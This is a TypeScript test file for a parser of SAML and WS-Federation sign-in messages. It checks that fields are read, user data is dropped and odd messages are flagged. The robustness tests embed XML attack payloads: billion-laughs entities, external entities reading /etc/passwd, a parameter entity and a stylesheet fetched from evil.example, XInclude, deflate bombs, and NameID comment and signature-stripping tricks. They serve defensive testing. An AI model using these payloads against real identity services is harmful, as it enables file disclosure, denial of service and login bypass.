import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readSaml, readWsFederation } from './saml';

const REQUEST = `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0" IssueInstant="2026-11-23T12:00:00Z"
  Destination="https://idp.example/sso" AssertionConsumerServiceURL="https://app.example/acs">
  <saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://app.example/metadata</saml:Issuer></samlp:AuthnRequest>`;

const response = (inside = '', around = '') => `<?xml version="1.0"?>${around}
<samlp:Response ID="_r1" InResponseTo="_a1" IssueInstant="2026-11-23T12:00:09.250Z" Destination="https://app.example/acs">
  <saml:Issuer>https://idp.example</saml:Issuer>
  <samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>
  <saml:Assertion ID="_s1"><saml:Issuer>https://idp.example</saml:Issuer><ds:Signature><ds:SignedInfo/></ds:Signature>
    <saml:Subject><saml:NameID>ann@shop.example${inside}</saml:NameID>
      <saml:SubjectConfirmation><saml:SubjectConfirmationData NotOnOrAfter="2026-11-23T12:05:09Z" Recipient="https://app.example/acs"/></saml:SubjectConfirmation></saml:Subject>
    <saml:Conditions NotBefore="2026-11-23T12:00:00Z" NotOnOrAfter="2026-11-23T12:05:00Z">
      <saml:AudienceRestriction><saml:Audience>https://app.example/metadata</saml:Audience></saml:AudienceRestriction></saml:Conditions>
  </saml:Assertion></samlp:Response>`;

const base64 = (text: string) => Buffer.from(text).toString('base64');
const redirect = (text: string) => deflateRawSync(Buffer.from(text)).toString('base64');

it('reads who asks, where, and where the answer is to go', () => {
  expect(readSaml(redirect(REQUEST), 'redirect', 'SAMLRequest')).toMatchObject({
    kind: 'saml-request',
    id: '_a1',
    issuer: 'https://app.example/metadata',
    destination: 'https://idp.example/sso',
    replyTo: 'https://app.example/acs',
    issuedAt: Date.UTC(2026, 10, 23, 12),
    notes: [],
  });
});

it('reads issuer, audience, times and status of an answer, and no name of a user', () => {
  const read = readSaml(base64(response()), 'post', 'SAMLResponse');
  expect(read).toMatchObject({
    kind: 'saml-response',
    inResponseTo: '_a1',
    issuer: 'https://idp.example',
    audience: 'https://app.example/metadata',
    notBefore: Date.UTC(2026, 10, 23, 12),
    notOnOrAfter: Date.UTC(2026, 10, 23, 12, 5),
    status: 'Success',
    signed: 'assertion',
    notes: [],
  });
  expect(JSON.stringify(read)).not.toContain('ann');
});

it('tells why a sign-in without a question failed', () => {
  const status = `<samlp:Response ID="_r"><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder">
    <samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:NoPassive"/></samlp:StatusCode></samlp:Status></samlp:Response>`;
  expect(readSaml(base64(status), 'post', 'SAMLResponse')?.status).toBe('NoPassive');
});

describe('what is odd is noted', () => {
  it.each([
    ['a comment within a name', response('<!-- -->.evil.example'), 'comment-in-name'],
    ['an assertion that nothing signs', response().replace(/<ds:Signature>.*?<\/ds:Signature>/, ''), 'not-signed'],
    [
      'a second assertion',
      response().replace('</samlp:Response>', '<saml:Assertion ID="_s2"/></samlp:Response>'),
      'several-assertions',
    ],
    ['an encrypted assertion', '<samlp:Response><saml:EncryptedAssertion/></samlp:Response>', 'encrypted'],
  ])('%s', (_, xml, note) => {
    expect(readSaml(base64(xml), 'post', 'SAMLResponse')?.notes).toContain(note);
  });
});

describe('what is broken or hostile costs little and reads nothing', () => {
  const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "&lol${n};&lol${n};&lol${n};">`).join('')}]>`;
  it.each([
    ['entities that multiply', base64(response('&lol9;', laughs)), 'post', 'doctype'],
    ['an external entity', base64(response('&x;', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')), 'post', 'doctype'],
    ['a deflate bomb', deflateRawSync(Buffer.alloc(50_000_000, 60)).toString('base64'), 'redirect', 'too-large'],
    ['100,000 elements', base64(`<a>${'<b/>'.repeat(50_000)}</a>`), 'post', 'too-many-elements'],
    ['a thousand levels', base64('<a>'.repeat(1000)), 'post', 'too-deep'],
    ['base64 of base64', base64(base64(base64(REQUEST))), 'post', 'not-xml'],
    ['half a message', base64(response().slice(0, 300)), 'post', 'not-xml'],
    ['no base64', '<<>>', 'post', 'not-base64'],
    ['a stream that was cut', redirect(REQUEST).slice(0, 40), 'redirect', 'broken-deflate'],
    ['a megabyte', base64('x'.repeat(1_000_000)), 'post', 'too-large'],
    [
      'a parameter entity',
      base64(`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>${REQUEST}`),
      'post',
      'doctype',
    ],
    [
      'a bomb of stored blocks',
      deflateRawSync(Buffer.alloc(300_000, 60), { level: 0 }).toString('base64'),
      'redirect',
      'too-large',
    ],
    ['a bomb of bombs', deflateRawSync(deflateRawSync(Buffer.alloc(50_000_000))).toString('base64'), 'redirect', 'not-xml'],
    ['100 kB of one tag that never ends', base64(`<a ${'b="c" '.repeat(17_000)}`), 'post', 'not-xml'],
  ] as const)('%s', (_, value, how, note) => {
    expect(readSaml(value, how, 'SAMLResponse')?.notes).toEqual([note]);
  });

  it('an instruction or an element that names a file or a page leads nowhere', () => {
    const elsewhere = response(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
      '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
    );
    expect(readSaml(base64(elsewhere), 'post', 'SAMLResponse')).toMatchObject({ issuer: 'https://idp.example', notes: [] });
  });

  it('an assertion of 100 kB, all of it attributes of the user, is read to its end and keeps none of them', () => {
    const attributes = `<saml:Attribute><saml:AttributeValue>${'ann '.repeat(25_000)}</saml:AttributeValue></saml:Attribute>`;
    const large = response().replace('</saml:Assertion>', `${attributes}</saml:Assertion>`);
    const read = readSaml(base64(large), 'post', 'SAMLResponse');
    expect(read).toMatchObject({ audience: 'https://app.example/metadata', notes: [] });
    expect(JSON.stringify(read).length).toBeLessThan(1000);
  });

  it.each([
    ['an entity', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'doctype'],
    ['a megabyte', `<r>${'x'.repeat(1_000_000)}</r>`, 'too-large'],
    ['base64', base64('<r/>'), 'not-xml'],
  ])('%s in an answer of WS-Federation', (_, xml, note) => {
    expect(readWsFederation(xml).notes).toEqual([note]);
  });

  it('never throws, whatever comes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => {
        readSaml(text, 'redirect', 'SAMLRequest');
        readSaml(base64(`<a ${text}`), 'post', 'SAMLResponse');
        readWsFederation(text);
      }),
    );
  });
});

it('reads an answer of WS-Federation by the assertion within', () => {
  const read = readWsFederation(
    `<t:RequestSecurityTokenResponse><t:RequestedSecurityToken><saml:Assertion Issuer="http://adfs.example" IssueInstant="2026-11-23T12:00:00.000Z">
       <saml:Conditions NotBefore="2026-11-23T12:00:00.000Z" NotOnOrAfter="2026-11-23T13:00:00.000Z"><saml:AudienceRestrictionCondition><saml:Audience>urn:app</saml:Audience></saml:AudienceRestrictionCondition></saml:Conditions>
       <ds:Signature/></saml:Assertion></t:RequestedSecurityToken></t:RequestSecurityTokenResponse>`,
  );
  expect(read).toMatchObject({ kind: 'ws-federation', issuer: 'http://adfs.example', audience: 'urn:app', signed: 'assertion' });
});
